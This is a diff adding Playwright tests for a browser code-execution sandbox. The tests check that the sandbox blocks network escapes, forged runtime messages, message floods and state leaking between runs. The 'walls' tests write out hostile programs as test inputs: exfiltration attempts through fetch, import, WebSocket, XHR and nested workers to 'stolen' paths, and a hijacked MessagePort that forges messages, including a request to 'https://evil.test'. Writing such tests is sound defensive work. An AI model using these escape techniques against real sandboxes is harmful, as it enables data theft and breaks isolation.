@@ -243,8 +243,111 @@ test.describe('a program that will not end', () => {
   test('prints 100 MB at once, or for ever, and is cut the same way', async ({ page }) => {
     const atOnce = await run(page, `console.log('€'.repeat(35_000_000))`, { timeoutMs: 30_000 });
     expect(atOnce.stdout).toBe('€'.repeat(33_333));
-    const forEver = await run(page, `for (;;) console.log('spam')`, { timeoutMs: 800 });
+    const forEver = await run(page, `for (;;) console.log('spam')`, { timeoutMs: 2_000 });
     expect(forEver.result.status).toBe('timed_out');
     expect(forEver.stdout).toHaveLength(100_000);
+  });
+});
+
+test.describe('the walls', () => {
+  test('nothing reaches the network but the bridge, and the session is not in there', async ({ page }) => {
+    const { stdout } = await run(
+      page,
+      `const native = Object.getPrototypeOf(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)));
+       const tried: Record<string, string> = {};
+       const attempt = async (name: string, action: () => unknown) => {
+         try { await action(); tried[name] = 'REACHED'; } catch { tried[name] = 'blocked'; }
+       };
+       const target = process.env.PORTAL;
+       // The globals are replaced; the platform's own may still be dug out of the prototypes.
+       const dug = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch')?.value;
+       delete (globalThis as any).fetch; delete (globalThis as any).importScripts; delete (globalThis as any).WebSocket;
+       delete (globalThis as any).EventSource; delete (globalThis as any).XMLHttpRequest; delete (globalThis as any).Worker;
+       delete (globalThis as any).indexedDB; delete (globalThis as any).caches; delete (globalThis as any).WebTransport;
+       await attempt('fetch', () => (dug ?? (globalThis as any).fetch).call(globalThis, target + '/stolen-fetch', { credentials: 'include', mode: 'no-cors' }));
+       await attempt('import', () => new Function('u', 'return import(u)')(target + '/stolen-import.js'));
+       await attempt('importScripts', () => (globalThis as any).importScripts(target + '/stolen-scripts.js'));
+       await attempt('WebSocket', () => new Promise((ok, no) => { const s = new (globalThis as any).WebSocket(target.replace('http', 'ws')); s.onopen = ok; s.onerror = no; }));
+       await attempt('EventSource', () => new Promise((ok, no) => { const s = new (globalThis as any).EventSource(target + '/stolen-events'); s.onopen = ok; s.onerror = no; }));
+       await attempt('XMLHttpRequest', () => { const x = new (globalThis as any).XMLHttpRequest(); x.open('GET', target + '/stolen-xhr', false); x.send(); });
+       await attempt('WebTransport', () => new (globalThis as any).WebTransport('https://localhost:1/').ready);
+       await attempt('indexedDB', () => new Promise((ok, no) => { const r = (globalThis as any).indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; }));
+       await attempt('caches', () => (globalThis as any).caches.open('x'));
+       await attempt('nested-worker', () => new Promise((ok, no) => {
+         const code = "fetch('" + target + "/stolen-nested', {mode:'no-cors'}).then(() => postMessage('in'), () => postMessage('out'))";
+         const w = new (globalThis as any).Worker(URL.createObjectURL(new Blob([code])));
+         w.onmessage = (e: MessageEvent) => (e.data === 'in' ? ok(0) : no()); w.onerror = no;
+       }));
+       console.log(JSON.stringify(tried), String(globalThis.origin), typeof document, typeof localStorage);`,
+      { env: { PORTAL: harness.url } },
+    );
+    const [tried, origin, document, storage] = stdout.trim().split(' ');
+    expect(Object.entries(JSON.parse(String(tried))).filter(([, how]) => how !== 'blocked')).toEqual([]);
+    expect([origin, document, storage]).toEqual(['null', 'undefined', 'undefined']);
+    expect(harness.seen.filter(({ line }) => line.includes('stolen'))).toEqual([]);
+  });
+
+  test('the frame itself cannot be opened outside its sandbox', async ({ page }) => {
+    await page.goto(`${harness.url}/_sandbox/frame.html`);
+    expect(await page.evaluate(() => [self.origin, navigator.cookieEnabled])).toEqual([
+      'null',
+      expect.anything(),
+    ]);
+    await expect(page.evaluate(() => document.cookie)).rejects.toThrow(/sandboxed/);
+  });
+
+  test('messages forged by the program get nowhere', async ({ page }) => {
+    await page.evaluate(() =>
+      addEventListener('message', (event) => console.log('window message', event.data)),
+    );
+    const { stdout, requests, result } = await run(
+      page,
+      `// Takes the runtime's own port out of its hands.
+       let port: MessagePort | undefined;
+       const post = MessagePort.prototype.postMessage;
+       MessagePort.prototype.postMessage = function (this: MessagePort, ...args: any) { port = this; return post.apply(this, args); };
+       console.log('hello'); await new Promise((go) => setTimeout(go, 30));
+       const send = (data: unknown) => { try { post.call(port, data); } catch (error) { console.log('refused'); } };
+       send({ type: 'exit', runId: 'guessed', exitCode: 0, droppedBytes: 0 });
+       send({ type: 'output', runId: 'guessed', chunks: [{ stream: 'stdout', text: 'FORGED' }] });
+       send({ type: 'request', runId: 'guessed', id: 1, request: { method: 'GET', url: 'https://evil.test', headers: [], body: null } });
+       send({ type: '__proto__' }); send(null); send('exit'); send([]); send({ type: 'constructor' }); send({ type: 'ready' });
+       send({ type: 'run', code: 'alert(1)' }); send({ type: 'output', chunks: { length: 1e9 } });
+       await new Promise((go) => setTimeout(go, 30)); console.log('still here'); process.exitCode = 9;`,
+    );
+    expect(stdout).toBe('hello\nstill here\n');
+    expect(requests).toEqual([]);
+    expect(result.exitCode).toBe(9);
+  });
+
+  test('a flood of messages ends the run and not the page', async ({ page }) => {
+    const { result } = await run(
+      page,
+      `let port: any; const post = MessagePort.prototype.postMessage; let runId = '';
+       MessagePort.prototype.postMessage = function (this: MessagePort, data: any) { port = this; runId = data.runId; return post.call(this, data); };
+       console.log('x'); await new Promise((go) => setTimeout(go, 30));
+       const text = 'y'.repeat(1_000_000);
+       for (let i = 0; i < 100; i++) { post.call(port, { type: 'output', runId, chunks: [{ stream: 'stdout', text }] }); await new Promise((go) => setTimeout(go)); }
+       console.log('end');`,
+      { outputLimitBytes: 10_000 },
+    );
+    expect(result).toMatchObject({
+      status: 'failed',
+      error: { message: expect.stringContaining('flooded') },
+    });
+    expect((await run(page, `console.log('fine')`)).stdout).toBe('fine\n');
+  });
+
+  test('each run starts in a realm of its own', async ({ page }) => {
+    await run(page, `(globalThis as any).left = 'behind'; Array.prototype.map = () => ['broken'];`);
+    expect((await run(page, `console.log(typeof (globalThis as any).left, [1].map((x) => x))`)).stdout).toBe(
+      'undefined [ 1 ]\n',
+    );
+  });
+
+  test('one frame waits for the next run, and no more', async ({ page }) => {
+    for (const code of ['1', 'throw 1', 'process.exit(0)']) await run(page, code);
+    await expect.poll(() => page.locator('iframe').count()).toBe(1);
+    expect(page.workers().length).toBeLessThanOrEqual(1);
   });
 });
